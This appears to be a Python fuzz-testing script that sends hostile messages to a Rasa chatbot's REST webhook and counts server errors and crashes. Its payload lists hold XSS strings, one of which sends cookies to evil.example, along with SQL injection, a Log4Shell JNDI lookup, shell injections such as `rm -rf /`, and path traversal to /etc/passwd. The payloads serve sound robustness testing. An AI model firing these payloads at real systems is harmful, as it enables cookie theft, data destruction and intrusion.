"""Fuzz the REST channel with hostile messages; count server errors and crashes.

    python -m bench.fuzz_rest --n 2000                 # starts its own servers
    python -m bench.fuzz_rest --n 2000 --url http://127.0.0.1:5005/webhooks/rest/webhook

Messages: random Unicode (astral planes, lone surrogates, combining marks,
bidi overrides, non-characters), control characters and NUL, HTML/JS, SQL-like
text, format strings and template syntax, Rasa's "/intent{...}" syntax, very
long text around and far beyond the length cap, other languages and scripts,
hostile sender ids and metadata, and raw bodies that are not JSON at all.

A good answer is a 200 with a list of bot messages, or a 4xx with a JSON
error. Server errors (5xx), transport errors (reset, timeout) and a server
process that died are failures; `silent` counts 200s without any bot text.
Without --url, servers are started on free ports with a temporary SQLite store
(DATABASE_URL / REDIS_URL in the environment are honoured). Exit code 1 on any
failure. The pytest suite runs a 200-message version (tests/production).
"""
from __future__ import annotations

import argparse
import asyncio
import json
import random
import sys
import tempfile
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import aiohttp

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

CAP = 2000  # MAX_MESSAGE_CHARS default
# Bodies above this are sent with Expect: 100-continue (the server's cap is 64 kB).
EXPECT_CONTINUE_BYTES = 16 * 1024

HTML_JS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)", "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "\"><iframe src=//evil.example>", "<a href=\"#\" onclick=\"x()\">pôle</a>",
    "{{constructor.constructor('alert(1)')()}}", "<!--#exec cmd=\"ls\" -->",
    "&lt;b&gt;gras&lt;/b&gt; &#x3C;script&#x3E;", "<style>*{display:none}</style>",
]
SQL = [
    "'; DROP TABLE events; --", "\" OR 1=1 --", "Clamart' UNION SELECT * FROM events --",
    "1; DELETE FROM events WHERE 1=1", "%' AND sender_id LIKE '%", "\\'; SELECT pg_sleep(10); --",
    "Robert'); DROP TABLE students;--", "admin'--", "' OR ''='", "$$; COPY events TO '/tmp/x'; $$",
]
TEMPLATES = [
    "%s%s%s%n", "{0}{1}{__class__}", "${ACTION_SERVER_URL}", "{{ 7*7 }}", "#{7*7}",
    "{commune}", "%(text)s", "${jndi:ldap://evil.example/a}", "`rm -rf /`", "$(reboot)",
    "../../../../etc/passwd", "C:\\Windows\\system32", "\\x00\\u0000", "%00%0a%0d",
]
RASA = [
    "/greet", "/restart", "/session_start", "/inform{\"commune\": \"Clamart\"}",
    "/inform{\"commune\": \"'; DROP TABLE events; --\"}", "/find_hub{\"commune\": null}",
    "/nlu_fallback", "/action_restart", "/danger_violence", "/stop{", "/inform{\"x\":" + "[" * 50,
    "/ask_open{\"commune\": \"Gennevilliers\", \"postal_code\": \"92230\"}", "/" * 100,
]
LANGUAGES = [
    "أين يقع المركز الاجتماعي في كلامار؟", "我住在克拉马尔，社会中心在哪里？",
    "Где находится социальный центр в Кламаре?", "クラマールの社会センターはどこですか",
    "Unde este centrul social din Clamart?", "Clamart'ta sosyal merkez nerede?",
    "ክላማርት ውስጥ ማህበራዊ ማዕከሉ የት ነው?", "कलामार्ट में सामाजिक केंद्र कहाँ है?",
    "Mi ngi dëkk Clamart, fan la pôle bi nekk?", "ⵎⴰⵏⵉ ⵉⵍⵍⴰ ⵓⵙⵏⵓⴱⴳ", "שלום, איפה המרכז?",
    "Ναι, πού είναι το κέντρο;", "Przepraszam, gdzie jest ośrodek?", "Xin chào, trung tâm ở đâu?",
]
FRENCH = ["j'habite à Clamart", "et l'adresse ?", "quel pôle pour Gennevilliers ?",
          "je suis enceinte", "bonjour", "92230", "c'est ouvert samedi ?"]
SPECIAL = ["\u202e", "\u200b", "\u200d", "\ufeff", "\ufffe", "\uffff", "\u0301", "\u034f",
           "\U0001f600", "\U0001f469\u200d\U0001f467", "\U000e0041", "\U0010ffff", "\ud800",
           "\udfff", "\x00", "\x1b[31m", "\r\n", "\t", "\x7f", "\x85", "\u2028", "\u2029"]


def random_unicode(rng: random.Random, length: int) -> str:
    out = []
    for _ in range(length):
        roll = rng.random()
        if roll < 0.3:
            out.append(chr(rng.randint(0x20, 0x7E)))
        elif roll < 0.55:
            out.append(chr(rng.randint(0xA0, 0xFFFF)))  # includes lone surrogates
        elif roll < 0.75:
            out.append(chr(rng.randint(0x10000, 0x10FFFF)))
        elif roll < 0.9:
            out.append(rng.choice(SPECIAL))
        else:
            out.append(chr(rng.randint(0, 0x1F)))
    return "".join(out)


def control_chars(rng: random.Random) -> str:
    base = rng.choice(FRENCH)
    chars = [chr(c) for c in list(range(0, 32)) + [127]] + ["\x85", "\u2028"]
    return "".join(ch + (rng.choice(chars) if rng.random() < 0.5 else "") for ch in base)


def very_long(rng: random.Random) -> str:
    length = rng.choice([CAP - 1, CAP, CAP + 1, 3 * CAP, 20_000, 60_000])
    unit = rng.choice(["a", "é", "\U0001f600", "Clamart ", "<b>", "' OR 1=1 ", "\u0301"])
    return (unit * (length // len(unit) + 1))[:length]


def hostile_sender(rng: random.Random, prefix: str, i: int) -> str:
    kind = rng.random()
    if kind < 0.7:
        return f"{prefix}-{i}"
    if kind < 0.8:
        return f"{prefix}-{i}-" + rng.choice(SQL)[:60]
    if kind < 0.9:
        return f"{prefix}-{i}-" + random_unicode(rng, rng.randint(1, 40))
    return f"{prefix}-{i}-" + rng.choice(["../..", "<script>", "%00", "\t\n", "*", "?", "#"])


def generate(rng: random.Random, i: int, prefix: str) -> tuple[str, bytes]:
    """(category, request body) for message number i."""
    category = rng.choice(["unicode", "control", "html_js", "sql", "template", "rasa",
                           "long", "language", "mixed", "metadata", "raw"])
    if category == "raw":
        body = rng.choice([
            b"\xff\xfe\xfd", b"{" * 1000, b'{"sender": "x", "message": "\xc3\x28"}',
            b'{"sender": "x", "message": "a"' + b" " * 1000, b"null", b"[]", b"12",
            b'{"sender": "x", "message": "a", "message": {"b": 1}}',
            json.dumps({"sender": f"{prefix}-{i}", "message": 1e308}).encode(),
            b'{"sender": "x", "message": "\\ud800\\udc00\\ud800"}',
        ])
        return category, body
    text = {
        "unicode": lambda: random_unicode(rng, rng.randint(1, 300)),
        "control": lambda: control_chars(rng),
        "html_js": lambda: rng.choice(HTML_JS) + " " + rng.choice(FRENCH),
        "sql": lambda: rng.choice(FRENCH) + rng.choice(SQL),
        "template": lambda: rng.choice(TEMPLATES) + rng.choice(FRENCH),
        "rasa": lambda: rng.choice(RASA),
        "long": lambda: very_long(rng),
        "language": lambda: rng.choice(LANGUAGES),
        "mixed": lambda: " ".join(rng.choice(HTML_JS + SQL + TEMPLATES + LANGUAGES + FRENCH)
                                  for _ in range(rng.randint(2, 8))),
        "metadata": lambda: rng.choice(FRENCH),
    }[category]()
    payload: dict = {"sender": hostile_sender(rng, prefix, i), "message": text}
    if category == "metadata":
        payload["metadata"] = rng.choice([
            {"a" * 1000: "b"}, {"nested": {"x": {"y": {"z": [1, 2, {"w": None}]}}}},
            {"__proto__": {"admin": True}}, {"text": "<script>"}, {"": ""}, {"n": 10 ** 30},
        ])
    # ensure_ascii: lone surrogates travel as \\ud800 escapes, as a hostile client may send.
    return category, json.dumps(payload, ensure_ascii=rng.random() < 0.5 or category == "unicode"
                                ).encode("utf-8", errors="surrogatepass")


@dataclass
class Report:
    n: int = 0
    statuses: Counter = field(default_factory=Counter)
    by_category: dict = field(default_factory=dict)
    server_errors: int = 0
    transport_errors: int = 0
    silent: int = 0
    crashed: list = field(default_factory=list)
    seconds: float = 0.0
    latencies: list = field(default_factory=list)
    examples: list = field(default_factory=list)

    def record(self, category: str, status: int, body, latency: float, request: bytes) -> None:
        self.n += 1
        self.statuses[status] += 1
        self.by_category.setdefault(category, Counter())[status] += 1
        self.latencies.append(latency)
        bad = False
        if status == 0:
            self.transport_errors += 1
            bad = True
        elif status >= 500:
            self.server_errors += 1
            bad = True
        elif status == 200 and not (isinstance(body, list)
                                    and any(isinstance(m, dict) and m.get("text") for m in body)):
            self.silent += 1
        if bad and len(self.examples) < 10:
            self.examples.append({"category": category, "status": status,
                                  "request": request[:200].decode("utf-8", "replace")})

    def summary(self) -> str:
        ordered = sorted(self.latencies)
        p95 = ordered[int(0.95 * (len(ordered) - 1))] if ordered else 0
        return (f"{self.n} hostile messages in {self.seconds:.1f} s: statuses "
                f"{dict(sorted(self.statuses.items()))}; server errors {self.server_errors}, "
                f"transport errors {self.transport_errors}, crashes {len(self.crashed)}, "
                f"silent 200s {self.silent}; latency p95 {p95:.2f} s, max "
                f"{(ordered[-1] if ordered else 0):.2f} s")

    def as_dict(self) -> dict:
        return {"n": self.n, "statuses": dict(self.statuses), "server_errors": self.server_errors,
                "transport_errors": self.transport_errors, "crashes": self.crashed,
                "silent": self.silent, "seconds": round(self.seconds, 1),
                "by_category": {k: dict(v) for k, v in self.by_category.items()},
                "examples": self.examples}


async def fuzz(urls: list[str], n: int = 2000, seed: int = 1, concurrency: int = 8,
               sender_prefix: str = "fuzz", timeout: float = 60) -> Report:
    """Send n generated messages round-robin to `urls`; the report counts outcomes."""
    rng = random.Random(seed)
    requests = [generate(rng, i, sender_prefix) for i in range(n)]
    report = Report()
    queue: asyncio.Queue = asyncio.Queue()
    for i, item in enumerate(requests):
        queue.put_nowait((i, item))

    async def worker(session: aiohttp.ClientSession) -> None:
        while not queue.empty():
            i, (category, body) = queue.get_nowait()
            started = time.monotonic()
            try:
                # A large body is announced (Expect: 100-continue), as HTTP clients do:
                # the server may refuse it (413) before it is sent. Without it, a busy
                # client still writing when the server answers 413 and closes got
                # "Broken pipe": a client-side race, not a server fault.
                async with session.post(urls[i % len(urls)], data=body,
                                        headers={"Content-Type": "application/json"},
                                        expect100=len(body) > EXPECT_CONTINUE_BYTES,
                                        timeout=aiohttp.ClientTimeout(total=timeout)) as resp:
                    raw = await resp.read()
                    try:
                        answer = json.loads(raw)
                    except ValueError:
                        answer = raw
                    status = resp.status
            except (aiohttp.ClientError, asyncio.TimeoutError, OSError):
                status, answer = 0, None  # counted as a transport error, never a crash
            report.record(category, status, answer, time.monotonic() - started, body)

    started = time.monotonic()
    async with aiohttp.ClientSession() as session:
        await asyncio.gather(*(worker(session) for _ in range(concurrency)))
    report.seconds = time.monotonic() - started
    # Still alive and answering after all that?
    async with aiohttp.ClientSession() as session:
        for url in urls:
            try:
                async with session.post(url, json={"sender": f"{sender_prefix}-after",
                                                   "message": "bonjour"},
                                        timeout=aiohttp.ClientTimeout(total=30)) as resp:
                    if resp.status != 200:
                        report.crashed.append(f"{url}: HTTP {resp.status} after the fuzz")
            except (aiohttp.ClientError, asyncio.TimeoutError) as error:
                report.crashed.append(f"{url}: {type(error).__name__} after the fuzz")
    return report


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.fuzz_rest", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--n", type=int, default=2000, help="messages to send (default 2000)")
    parser.add_argument("--url", action="append", help="REST webhook URL (repeatable); "
                        "default: start servers here")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--concurrency", type=int, default=8)
    parser.add_argument("--json", type=Path, help="also write the report as JSON here")
    args = parser.parse_args(argv)

    servers = None
    urls = args.url
    if not urls:
        from tests.support.servers import BotServers
        workdir = Path(tempfile.mkdtemp(prefix="fuzz_rest_"))
        print(f"[fuzz] starting servers (logs in {workdir}) ...", flush=True)
        servers = BotServers(workdir).start()
        urls = [servers.rest_url]
    try:
        report = asyncio.run(fuzz(urls, n=args.n, seed=args.seed, concurrency=args.concurrency))
        if servers:
            for name, proc in servers.processes.items():
                if proc.popen.poll() is not None:
                    report.crashed.append(f"{name} exited with code {proc.popen.returncode}")
    finally:
        if servers:
            servers.stop()
    print(f"[fuzz] {report.summary()}")
    for category, statuses in sorted(report.by_category.items()):
        print(f"[fuzz]   {category:9} {dict(sorted(statuses.items()))}")
    for example in report.examples:
        print(f"[fuzz]   failure: {example}")
    if args.json:
        args.json.parent.mkdir(parents=True, exist_ok=True)
        args.json.write_text(json.dumps(report.as_dict(), indent=2, ensure_ascii=False))
    failed = report.server_errors or report.transport_errors or report.crashed
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
